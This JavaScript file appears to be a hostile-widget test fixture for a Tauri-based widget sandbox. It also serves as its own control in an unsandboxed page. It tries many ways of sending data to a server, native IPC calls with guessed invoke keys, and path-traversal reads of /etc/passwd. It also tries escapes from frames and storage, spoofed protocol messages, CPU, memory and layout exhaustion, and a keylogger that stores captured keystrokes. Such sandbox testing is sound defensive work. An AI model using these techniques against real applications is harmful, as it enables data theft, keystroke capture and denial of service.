// Everything that a hostile page tries. It speaks the protocol by hand, since a hostile author needs no kit.
// The same file is the control: in a page without a sandbox (`control.html`) the same attempts reach the probe.
(() => {
  const results = {};
  const replies = new Map();
  let port = null;
  let lastId = 1000;
  let start = null;
  let saved = { schema: 1, data: { text: "from hostile" } };

  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const say = (message) => port.postMessage(message);
  const call = (capability, request) =>
    new Promise((resolve) => {
      const id = ++lastId;
      replies.set(id, resolve);
      say({ kind: "call", id, capability, request });
    });
  const element = (tag, fields) => {
    const made = Object.assign(document.createElement(tag), fields);
    document.body.append(made);
    return made;
  };
  /** What came of something that may throw. */
  const tried = async (act) => {
    try {
      const silent = pause(4000).then(() => Promise.reject(new Error("no answer")));
      return { got: String(await Promise.race([act(), silent])).slice(0, 200) };
    } catch (error) {
      return { refused: String(error.name ?? error) };
    }
  };
  const each = async (acts) => {
    const outcome = {};
    for (const [name, act] of Object.entries(acts)) outcome[name] = await tried(act);
    return outcome;
  };
  const spin = (ms) => {
    const until = performance.now() + ms;
    while (performance.now() < until);
  };

  addEventListener("message", (event) => {
    if (event.source !== window.parent || event.data?.kind !== "port") return;
    port = event.ports[0];
    port.onmessage = ({ data }) => {
      if (data.kind === "start") {
        start = data;
        if (data.saved) saved = data.saved;
        say({ kind: "header", title: "Hostile", aside: "" });
        say({ kind: "ready", token: data.token });
        globalThis.atStart?.(data);
      }
      if (data.kind === "snapshot") say({ kind: "snapshot", id: data.id, state: saved });
      if (data.kind === "freeze") say({ kind: "frozen", id: data.id, state: saved, focus: null, scroll: [] });
      if (data.kind === "restore") say({ kind: "restored", id: data.id });
      if (data.kind === "reply") {
        replies.get(data.id)?.(data);
        replies.delete(data.id);
      }
    };
    say({ kind: "hello", sdk: "by hand" });
  });

  /** Ways to a server. Each is one request to `base` + its name. */
  const ways = {
    fetch: (url) => fetch(url, { mode: "no-cors" }),
    request: (url) =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onloadend = () => (request.status ? resolve("loaded") : reject(new Error("no answer")));
        request.open("GET", url);
        request.send();
      }),
    socket: (url) => new WebSocket(url.replace("http", "ws")),
    events: (url) => new EventSource(url),
    beacon: (url) => navigator.sendBeacon(url, "secret"),
    picture: (url) => element("img", { src: url }),
    style: (url) => element("link", { rel: "stylesheet", href: url }),
    inside: (url) => (element("style", { textContent: `p{background:url(${url})}` }), element("p", { textContent: "p" })),
    font: (url) => {
      element("style", { textContent: `@font-face{font-family:x;src:url(${url})}q{font-family:x}` });
      return element("q", { textContent: "q" });
    },
    script: (url) => element("script", { src: url }),
    module: (url) => import(url),
    frame: (url) => element("iframe", { src: url }),
    object: (url) => element("object", { data: url }),
    video: (url) => element("video", { src: url, autoplay: true, muted: true }),
    track: (url) => {
      const video = element("video", {});
      video.append(Object.assign(document.createElement("source"), { src: url }));
      video.load();
    },
    preload: (url) => element("link", { rel: "preload", as: "image", href: url }),
    prefetch: (url) => element("link", { rel: "prefetch", href: url }),
    connect: (url) => element("link", { rel: "preconnect", href: url }),
    names: (url) => element("link", { rel: "dns-prefetch", href: url }),
    form: (url) => {
      const frame = element("iframe", { name: "into" });
      const form = element("form", { action: url, method: "post", target: frame.name });
      form.append(Object.assign(document.createElement("input"), { name: "secret", value: "1" }));
      form.submit();
    },
    popup: (url) => window.open(url),
    ping: (url) => {
      const link = element("a", { href: "#", ping: url, textContent: "ping" });
      link.click();
    },
    worker: async (url) => {
      const code = `fetch(${JSON.stringify(url)}, { mode: "no-cors" }); try { importScripts(${JSON.stringify(url)}) } catch {}`;
      new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      await pause(300);
    },
    peer: async (url) => {
      const { hostname, port } = new URL(url);
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${hostname}:${port}` }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    },
    refresh: (url) => element("meta", { httpEquiv: "refresh", content: `0;url=${url}` }),
  };

  const attacks = {
    /** Every way to the server but those by which the page is gone. */
    async network(base) {
      const acts = {};
      for (const [name, way] of Object.entries(ways)) if (name !== "refresh") acts[name] = () => way(`${base}${name}`);
      return each(acts);
    },
    /** The page goes elsewhere itself. */
    navigate: (base) => void (location.href = `${base}navigate`),
    refresh: (base) => void ways.refresh(`${base}refresh`),

    /** Ways to the native commands. `target` is what a command would change. */
    async commands() {
      const payload = (key) =>
        JSON.stringify({
          cmd: "shell_command",
          callback: 1,
          error: 2,
          payload: { key: "guess", command: { kind: "set_board", board: { tiles: [] } } },
          options: {},
          __TAURI_INVOKE_KEY__: key,
        });
      return each({
        internals: () => __TAURI_INTERNALS__.invoke("shell_command", {}),
        tauri: () => __TAURI__.core.invoke("shell_command", {}),
        ipc: () => window.ipc.postMessage(payload("guess")),
        handler: () => window.webkit.messageHandlers.ipc.postMessage(payload("guess")),
        keys: () => {
          for (let guess = 0; guess < 1000; guess += 1) {
            window.webkit.messageHandlers.ipc.postMessage(payload(guess.toString(16)));
          }
        },
        again: () => {
          delete window.webkit;
          window.webkit.messageHandlers.ipc.postMessage(payload("guess"));
        },
        fresh: () => {
          const frame = element("iframe", { src: "about:blank" });
          frame.contentWindow.webkit.messageHandlers.ipc.postMessage(payload("guess"));
        },
        scheme: () => fetch("ipc://localhost/shell_command", { method: "POST", body: payload("guess") }),
        host: () => fetch("http://ipc.localhost/shell_command", { method: "POST", body: payload("guess") }),
        asset: () => fetch("asset://localhost/etc/passwd"),
        page: () => fetch("tauri://localhost/index.html"),
        picture: () => decoded("tauri://localhost/index.html"),
        file: () => fetch("file:///etc/passwd"),
      });
    },

    /** Ways to other pages and what they hold. */
    async pages() {
      const parts = (window.parent.frames.length ?? 0) | 0;
      const siblings = Array.from({ length: parts }, (_, index) => window.parent.frames[index]);
      return each({
        parent: () => window.parent.document.body,
        top: () => window.top.localStorage,
        frame_element: () => window.frameElement.src,
        key: () => window.parent.__moult,
        sibling: () => siblings.find((one) => one !== window).document.body,
        address: () => siblings.find((one) => one !== window).location.href,
        storage: () => localStorage.setItem("a", "b"),
        session: () => sessionStorage.setItem("a", "b"),
        cookie: () => ((document.cookie = "a=b"), document.cookie || Promise.reject(new Error("none"))),
        database: () => indexedDB.open("a"),
        caches: () => caches.open("a"),
        service: () => navigator.serviceWorker.register("/main.js"),
        clipboard: () => navigator.clipboard.readText(),
        place: () => new Promise((_, reject) => navigator.geolocation.getCurrentPosition(() => {}, reject)),
        camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
        evaluate: () => new Function("return 1")(),
        inline: () => (element("script", { textContent: "window.inline = true" }), window.inline || Promise.reject(new Error("no"))),
        popup: () => window.open("about:blank") ?? Promise.reject(new Error("none")),
        full: () => document.documentElement.requestFullscreen(),
        above: () => ((window.top.location.href = "about:blank"), Promise.reject(new Error("without effect"))),
        beside: () => {
          for (const one of siblings) if (one !== window) one.location = "about:blank#taken";
        },
        port: () => {
          // A second port, as if the stage had sent it.
          for (const one of siblings) one.postMessage({ moult: 1, kind: "port" }, "*", [new MessageChannel().port1]);
        },
        watch: () => window.parent.postMessage({ moult: 1, watch: "guess", kind: "pressed" }, "*"),
      });
    },

    /** Files that are not this bundle's. */
    async files() {
      const at = (path) => new URL(path, location.href).href;
      const own = location.href.slice(0, location.href.lastIndexOf("/") + 1);
      return each({
        own: () => decoded(at("dot.svg")),
        above: () => decoded(`${own}../../../../etc/passwd`),
        encoded: () => decoded(`${own}%2e%2e/%2e%2e/etc/passwd`),
        back: () => decoded(`${own}..\\..\\etc\\passwd`),
        double: () => decoded(`${own}//dot.svg`),
        host_files: () => decoded(`${own}_moult/../dot.svg/../../main.js`),
        other: () => decoded("widget://localhost/index.html"),
        guessed: () => decoded(`widget://${"0".repeat(32)}.localhost/dot.svg`),
        module: () => import("widget://localhost/main.js"),
      });
    },

    /** Messages that a widget has no right to, and claims that are not true. */
    async claims() {
      say({ kind: "command", id: 1, command: { kind: "set_board", board: { tiles: [] } } });
      say({ kind: "layout", bodies: [], covers: [{ x: 0, y: 0, width: 9999, height: 9999 }] });
      say({ kind: "state", instance: "notes-1", state: { schema: 1, data: { text: "overwritten" } } });
      say({ kind: "header", instance: "notes-1", title: "Notes", aside: "" });
      say({ kind: "ready", token: "guess" });
      say({ kind: "ready", token: start.token, instance: "notes-1" });
      say({ kind: "hello", sdk: "x", subject: "w/moult/notes", instance: "notes-1" });
      for (const key of ["E", "Escape", "Ctrl+K", "Ctrl+Z"]) say({ kind: "chord", key });
      say({ kind: "nothing", deep: { a: [1, 2, 3] } });
      say("text");
      say(null);
      await pause(100);
      return "said";
    },

    /** Calls without a grant, and beyond one. */
    async calls(other) {
      const outcome = {};
      const ask = async (name, capability, request) => {
        const reply = await call(capability, request);
        outcome[name] = reply.ok ? { got: JSON.stringify(reply.value).slice(0, 100) } : { refused: reply.error.code };
      };
      await ask("figures", "system.figures", {});
      await ask("clipboard", "clipboard.write", { text: "x" });
      await ask("open", "open.url", { url: "https://example.com" });
      await ask("notify", "notifications.show", { title: "t", body: "b" });
      await ask("unknown", "shell.command", { kind: "set_board" });
      await ask("prototype", "__proto__", {});
      await ask("elsewhere", "network.fetch", { url: other });
      await ask("file", "network.fetch", { url: "file:///etc/passwd" });
      await ask("path", "storage.get", { key: "../../notes/storage" });
      await ask("kept", "storage.set", { key: "mine", value: 1 });
      await ask("mine", "storage.get", { key: "mine" });
      await ask("much", "storage.set", { key: "much", value: "x".repeat(300 * 1024) });
      return outcome;
    },
    granted: async (url) => {
      const reply = await call("network.fetch", { url });
      return reply.ok ? reply.value.status : reply.error.code;
    },
    /** More calls than it may. */
    async call_flood(count) {
      const all = await Promise.all(
        Array.from({ length: count }, () => Promise.race([call("storage.keys", {}), pause(5000)])),
      );
      return {
        answered: all.filter((reply) => reply?.ok).length,
        refused: all.filter((reply) => reply?.error?.code === "rate_limited").length,
      };
    },

    /** A million messages, a few thousand at a time so that the frame itself does not hold anybody up. */
    async messages(count) {
      for (let said = 0; said < count; said += 2000) {
        for (let index = 0; index < 2000; index += 1) say({ kind: "input", composing: false });
        await pause(0);
      }
      return "said";
    },
    async window_messages(count) {
      for (let said = 0; said < count; said += 2000) {
        for (let index = 0; index < 2000; index += 1) window.parent.postMessage({ moult: 1 }, "*");
        await pause(0);
      }
      return "said";
    },
    /** Promises and timers that make more of themselves. */
    async forks() {
      let timers = 0;
      const fork = () => {
        timers += 1;
        if (timers > 20_000) return;
        setTimeout(fork, 1 + Math.random() * 50);
        setTimeout(fork, 1 + Math.random() * 50);
      };
      fork();
      let promises = 0;
      const grow = async (depth) => {
        promises += 1;
        await pause(depth);
        if (promises < 20_000) await Promise.all([grow(depth + 1), grow(depth + 1)]);
      };
      await Promise.race([grow(1), pause(3000)]);
      return { timers, promises };
    },
    async large_state() {
      say({ kind: "state", state: { schema: 1, data: { text: "x".repeat(2 * 1024 * 1024) } } });
      await pause(500);
      return "said";
    },

    /** Does it at the next press. */
    arm: (name) => void addEventListener("pointerdown", () => attacks[name](), { once: true }),
    loop: () => setTimeout(() => spin(1e9), 50),
    promise_loop: () => {
      const on = () => Promise.resolve().then(on);
      setTimeout(on, 50);
    },
    memory: () => {
      const held = [];
      const grow = () => {
        for (let index = 0; index < 8; index += 1) held.push(new Uint8Array(8 << 20).fill(index + 1));
        setTimeout(grow, 10);
      };
      grow();
      globalThis.held = held;
    },
    layout: () => {
      setTimeout(() => {
        const root = element("div", {});
        let deep = root;
        for (let index = 0; index < 400; index += 1) deep = deep.appendChild(document.createElement("div"));
        for (let index = 0; index < 60_000; index += 1) {
          const cell = document.createElement("span");
          cell.textContent = `${index} `;
          cell.style.cssText = "display:inline-grid;grid-template-columns:repeat(4,1fr);float:left";
          deep.append(cell);
        }
        for (let turn = 0; ; turn += 1) {
          root.style.width = `${100 + (turn % 300)}px`;
          void root.offsetHeight;
        }
      }, 50);
    },

    /** Takes the keyboard after `wait`, every so many milliseconds, and keeps every key that it sees in its state. */
    steal({ wait, every, how }) {
      const events = [];
      const note = (event) => {
        if (!event.isTrusted) return;
        events.push(`${event.type} ${event.key ?? event.data ?? ""}`);
        say({ kind: "state", state: { schema: 1, data: { stolen: events } } });
      };
      const listen = () => {
        for (const type of ["keydown", "keypress", "keyup", "beforeinput", "input"]) addEventListener(type, note, true);
      };
      say({ kind: "state", state: { schema: 1, data: { stolen: [] } } });
      listen();
      setTimeout(() => {
        if (how === "open") {
          // A document that is opened anew loses every listener, also those of the watch.
          document.open();
          document.write("<!doctype html><body><input>");
          listen();
        }
        setInterval(() => {
          document.activeElement?.blur();
          window.focus();
          if (how !== "window") document.querySelector("input")?.focus();
        }, every);
      }, wait);
      return "began";
    },
  };

  function decoded(url) {
    return new Promise((resolve, reject) => {
      const picture = new Image();
      picture.onload = () => resolve("loaded");
      picture.onerror = () => reject(new Error("no picture"));
      picture.src = url;
    });
  }

  globalThis.results = results;
  globalThis.ways = ways;
  globalThis.attack = (name, argument) => {
    results[name] = null;
    Promise.resolve()
      .then(() => attacks[name](argument))
      .then(
        (outcome) => (results[name] = { outcome: outcome ?? null }),
        (error) => (results[name] = { error: String(error) }),
      );
  };
})();
